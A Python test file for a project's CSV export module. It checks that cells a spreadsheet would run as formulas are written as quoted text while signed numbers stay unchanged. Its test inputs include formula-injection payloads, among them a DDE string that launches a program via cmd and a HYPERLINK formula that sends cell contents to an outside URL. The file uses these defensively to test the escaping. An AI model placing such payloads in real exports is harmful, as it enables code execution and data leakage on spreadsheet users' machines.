"""Lists for spreadsheets: what people typed is never run, and numbers stay numbers."""

import csv
import io
import re
from fractions import Fraction

import pytest
from hypothesis import given
from hypothesis import strategies as st

from queenhigh.codec.spreadsheet import csv_table, csv_text
from tests.meta.project import ROOT

SIGNS = "=+-@\t\r"


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "typed",
    [
        "=1+1",
        '=HYPERLINK("http://example.com?"&A1,"ann")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "-ann",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "＝1+1",
        "-",
        "+1-555-0100",
    ],
)
def test_r9_text_that_a_spreadsheet_would_run_is_written_as_text(typed: str) -> None:
    assert read(csv_text([("who", typed)])) == [["who", f"'{typed}"]]
    assert read(csv_table(["who"], [{"who": typed}])) == [["who"], [f"'{typed}"]]


@pytest.mark.parametrize(
    "said",
    [
        "-125000",
        "+12.5",
        "-1/36",
        "-3.37%",
        "-3.37 %",
        "-1,250",
        "-1e-05",
        "-23.590 % to 30.336 %",
        "-9 to +8",
        "ann",
        "A1=2",
        "",
    ],
)
def test_r9_numbers_and_other_text_stay_what_they_are(said: str) -> None:
    assert read(csv_text([("x", said)])) == [["x", said]]


def test_r9_values_that_are_no_text_are_written_as_they_are() -> None:
    row = (-5, -0.25, Fraction(-1, 36), None, True)
    assert read(csv_text([row])) == [["-5", "-0.25", "-1/36", "", "True"]]


@given(st.lists(st.text(), min_size=2))
def test_r9_no_cell_of_any_text_begins_like_a_formula_unless_it_is_a_number(cells: list[str]) -> None:
    (row,) = read(csv_text([cells]))
    assert len(row) == len(cells)
    for cell in row:
        assert cell[:1] not in SIGNS or not cell or re.fullmatch(r"[+-]\$?\d[\d,.e+% $/to-]*", cell, re.IGNORECASE)


def test_r9_what_a_line_does_not_have_stays_empty_and_what_no_column_asks_for_is_left_out() -> None:
    assert csv_table(["a", "b"], [{"a": 1, "c": 3}, {"b": 2}]) == "a,b\n1,\n,2\n"


def test_r9_every_list_goes_through_the_one_writer() -> None:
    writers = [
        path.relative_to(ROOT).as_posix()
        for path in sorted((ROOT / "src").rglob("*.py"))
        if re.search(r"\bcsv\.(writer|DictWriter)\b", path.read_text(encoding="utf-8"))
    ]
    assert writers == ["src/queenhigh/codec/spreadsheet.py"]
